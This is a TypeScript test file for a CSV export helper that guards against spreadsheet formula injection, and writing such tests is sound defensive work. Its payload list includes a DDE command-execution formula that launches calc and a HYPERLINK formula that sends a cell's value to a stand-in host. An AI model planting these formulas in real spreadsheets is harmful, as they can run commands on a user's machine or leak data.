import fc from 'fast-check'
import { expect, test } from 'vitest'
import { asWritten, csvRow, inert } from './csvCells.ts'

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const leads = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u200b', '\ufeff', '"', "'", '\u202e', '\u0000', ' \t \n']
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"see")', 'SUM(A1:A9)']
const payloads = leads.flatMap(lead => signs.flatMap(sign => bodies.map(body => `${lead}${sign}${body}`)))

test('no cell becomes a formula, whatever stands before the sign', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(500)
  for (const payload of payloads) expect(inert(payload), JSON.stringify(payload)).toMatch(/^'/)
})

test('nor does what a spreadsheet would take for a cell, row or quote of its own', () => {
  for (const payload of payloads) {
    for (const before of ['a;', 'a\t', 'a\n', 'a\r\n', 'a";', 'a";"', 'a ; ']) {
      const parts = inert(before + payload).split(/[;\t\r\n]/)
      for (const part of parts) expect(startsFormula(part), JSON.stringify([before, payload])).toBe(false)
    }
  }
})

test('a cell that starts with a tab or a line end is guarded, as OWASP asks', () => {
  for (const lead of ['\t', '\r', '\n']) expect(inert(`${lead}words`)).toBe(`'${lead}words`)
})

test('ordinary words stay as they are', () => {
  for (const words of ['', '55 people', 'a - b', 'x = y', 'me@example.org', '‘quoted’', "'tis", 'a; b', 'half-\nway']) {
    expect(inert(words)).toBe(words)
  }
})

test('the words can be had back exactly', () => {
  const piece = fc.constantFrom(...signs, ...leads, ';', ',', "'", 'a', '1', '""')
  const words = fc.oneof(
    fc.array(piece, { maxLength: 12 }).map(pieces => pieces.join('')),
    fc.string(),
  )
  fc.assert(
    fc.property(words, text => asWritten(inert(text)) === text),
    { numRuns: 5_000 },
  )
})

test('quotes, commas and line ends stay within their cell', () => {
  expect(csvRow(['a "b", c\r\nd', 7, ''])).toBe('"a ""b"", c\r\nd",7,""\r\n')
})

function startsFormula(part: string): boolean {
  return signs.includes(part.replace(/^[\s\p{C}"]+/u, '').slice(0, 1))
}
